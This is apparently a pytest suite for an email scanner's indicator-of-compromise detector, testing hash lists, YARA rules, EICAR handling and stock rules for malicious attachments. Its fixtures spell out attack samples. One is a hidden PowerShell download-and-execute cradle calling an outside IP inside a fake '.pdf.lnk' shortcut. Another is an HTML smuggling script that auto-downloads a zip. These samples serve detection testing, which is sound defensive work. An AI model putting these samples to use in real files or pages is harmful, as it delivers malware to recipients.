import hashlib

import pytest

from kakuri.detect.iocs import EICAR, Iocs, load_hashes
from kakuri.model import Action, Part
from kakuri.pipeline import Scanner
from kakuri.settings import Settings, SettingsError
from tests.builders import make_message
from tests.builders_archive import LNK_HEADER, onenote_with, zip_of

SAMPLE = b"MZ\x90\x00 an inert sample that a CERT advisory listed " * 4
SAMPLE_SHA256 = hashlib.sha256(SAMPLE).hexdigest()


def rules_dir(settings: Settings, kind: str):
    folder = settings.path("rules", kind)
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def scan(settings: Settings, *attachments, body: str = "Hello\n"):
    scanner = Scanner(settings, detectors=[Iocs.from_settings(settings)])
    return scanner.scan(make_message(body=body, attachments=list(attachments))).verdict


def hits(verdict, symbol):
    return [f for f in verdict.findings if f.symbol == symbol]


def test_listed_sha256_of_a_zip_member_is_matched_and_quarantined(settings):
    (rules_dir(settings, "sha256") / "cert-2020-09.txt").write_text(
        f"# JPCERT advisory, Emotet loaders\n{SAMPLE_SHA256.upper()}  # loader\n\n{'0' * 64}\n"
    )
    verdict = scan(settings, ("見積書.zip", zip_of({"見積書.bin": SAMPLE})))
    hit = hits(verdict, "IOC_HASH_MATCH")
    assert [(f.part, f.evidence["list"], f.evidence["sha256"]) for f in hit] == [
        ("見積書.zip/見積書.bin", "cert-2020-09.txt", SAMPLE_SHA256)
    ]
    assert verdict.action is Action.QUARANTINE


def test_abuse_ch_csv_export_lines_are_read(tmp_path):
    line = (
        f'"2020-09-22 08:13:25", "{SAMPLE_SHA256}", "0123456789abcdef0123456789abcdef", '
        '"0123456789abcdef0123456789abcdef01234567", "reporter", "doc_0922.doc", "doc", "application/msword", '
        '"Emotet", "T1A2B3C4D5E6F7A8B9C0D1E2F3A4B5C6D7E8F9A0B1C2D3E4F5A6B7C8D9E0F1A2B3C4D5E6F7A8", "n/a"\n'
    )
    (tmp_path / "full_sha256.csv").write_text('# "first_seen_utc","sha256_hash",...\n' + line)
    assert load_hashes(tmp_path) == {SAMPLE_SHA256: "full_sha256.csv"}


def test_unlisted_file_is_not_matched(settings):
    (rules_dir(settings, "sha256") / "list.txt").write_text("1" * 64 + "\n")
    assert hits(scan(settings, ("a.bin", SAMPLE)), "IOC_HASH_MATCH") == []


def test_operator_yara_rule_matches_with_rule_namespace_and_tags(settings):
    (rules_dir(settings, "yara") / "emotet.yar").write_text(
        'rule Emotet_Loader_Marker : emotet loader {\n'
        '  meta: description = "test loader marker"\n'
        '  strings: $a = "CERT advisory listed"\n'
        '  condition: $a and extension == "bin"\n}\n'
    )
    verdict = scan(settings, ("a.bin", SAMPLE), ("a.txt", SAMPLE))
    hit = [f for f in hits(verdict, "IOC_YARA_MATCH") if f.evidence["namespace"] == "emotet"]
    assert [(f.part, f.evidence["rule"], f.evidence["tags"]) for f in hit] == [
        ("a.bin", "Emotet_Loader_Marker", "emotet loader")
    ]
    assert hit[0].weight == 1.0 and verdict.action is Action.QUARANTINE


def test_bad_yara_file_stops_start_up_with_its_name(settings):
    folder = rules_dir(settings, "yara")
    (folder / "good.yar").write_text('rule ok { strings: $a = "x" condition: $a }\n')
    (folder / "broken.yar").write_text("rule broken { condition: and }\n")
    with pytest.raises(SettingsError, match="broken.yar"):
        Iocs.from_settings(settings)


def test_invalid_detector_options_are_a_settings_error(settings):
    settings.detectors["iocs"] = {"yara_timeout_seconds": "soon"}
    with pytest.raises(SettingsError, match="detectors.iocs"):
        Iocs.from_settings(settings)


@pytest.mark.parametrize(
    "attachment",
    [
        ("eicar.com", EICAR),
        ("eicar.txt", EICAR + b"\r\n"),
        ("eicar_com.zip", zip_of({"eicar.com": EICAR})),
        ("nested.zip", zip_of({"inner.zip": zip_of({"eicar.com": EICAR})})),
    ],
)
def test_eicar_test_file_is_quarantined_like_malware_at_any_depth(settings, attachment):
    verdict = scan(settings, attachment)
    assert hits(verdict, "IOC_EICAR")
    assert verdict.action is Action.QUARANTINE
    assert any(r.startswith("override ioc.known_bad_file") for r in verdict.reasons)


def test_eicar_pasted_as_the_whole_body_is_found(settings):
    verdict = scan(settings, body=EICAR.decode() + "\n")
    assert hits(verdict, "IOC_EICAR")[0].evidence["where"] == "body text"


def test_text_that_quotes_the_eicar_string_is_not_the_test_file(settings):
    article = b"To test your scanner, save this line as a file:\n" + EICAR + b"\nand scan it.\n"
    verdict = scan(settings, ("av-howto.txt", article), body="EICAR テストの手順です。\n" + EICAR.decode())
    assert hits(verdict, "IOC_EICAR") == []


def test_stock_rules_catch_a_powershell_cradle_in_a_shortcut(settings):
    arguments = "-nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a')"
    lnk = LNK_HEADER + "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe ".encode("utf-16-le") + arguments.encode("utf-16-le")
    hit = hits(scan(settings, ("請求書.pdf.lnk", lnk)), "IOC_YARA_MATCH")
    assert [(f.evidence["rule"], f.evidence["namespace"], f.weight) for f in hit] == [
        ("PowerShell_Download_Cradle", "kakuri_scripts", 0.8)
    ]


def test_stock_rules_ignore_text_that_mentions_powershell(settings):
    text = "PowerShell で Get-ChildItem を実行し、Invoke-WebRequest の使い方は社内Wikiを参照してください。".encode()
    assert hits(scan(settings, ("手順.txt", text)), "IOC_YARA_MATCH") == []


def test_stock_rules_catch_html_smuggling_but_not_an_ordinary_page(settings):
    smuggler = (
        b"<html><body><script>var d = atob('UEsDBAoAAAAAA'); var b = new Uint8Array(d.length);"
        b"var blob = new Blob([b], {type: 'application/zip'}); var a = document.createElement('a');"
        b"a.href = URL.createObjectURL(blob); a.download = 'invoice.zip'; a.click();</script></body></html>"
    )
    page = b"<html><body><script>document.title = 'Newsletter';</script><p>Hello</p></body></html>"
    verdict = scan(settings, ("invoice.html", smuggler, "text/html"), ("news.html", page, "text/html"))
    assert [(f.part, f.evidence["rule"]) for f in hits(verdict, "IOC_YARA_MATCH")] == [
        ("invoice.html", "HTML_Smuggling_Blob_Download")
    ]


def test_without_stock_rules_or_files_there_is_nothing_to_match(settings):
    settings.detectors["iocs"] = {"stock_yara": False}
    detector = Iocs.from_settings(settings)
    assert detector.rules is None and detector.hashes == {}
    assert hits(scan(settings, ("a.bin", SAMPLE)), "IOC_YARA_MATCH") == []


@pytest.mark.parametrize("data", [b"", b"\x00", EICAR[:20], b"X5O!" * 40000])
def test_odd_parts_do_not_raise(settings, data):
    detector = Iocs.from_settings(settings)
    message = Scanner(settings, detectors=[]).scan(make_message(attachments=[("x", b"y")])).message
    message.parts = [Part(path="p", data=data, filename=None)]
    assert [f.symbol for f in detector.check(message, None)] == []


def test_stock_rules_catch_a_onenote_section_embedding_a_script(settings):
    section = onenote_with([b"<script>x</script>"]) + "C:\\Users\\a\\open.hta".encode("utf-16-le")
    hit = hits(scan(settings, ("議事録.one", section)), "IOC_YARA_MATCH")
    assert "OneNote_Embedded_Runnable_File" in {f.evidence["rule"] for f in hit}


def test_yara_sees_only_the_first_max_yara_bytes_of_a_part(settings):
    (rules_dir(settings, "yara") / "marker.yar").write_text('rule Marker { strings: $a = "NEEDLE-7" condition: $a }\n')
    settings.detectors["iocs"] = {"max_yara_bytes": 1024, "stock_yara": False}
    early, late = b"NEEDLE-7" + b"." * 3000, b"." * 3000 + b"NEEDLE-7"
    verdict = scan(settings, ("early.bin", early), ("late.bin", late))
    assert [f.part for f in hits(verdict, "IOC_YARA_MATCH")] == ["early.bin"]
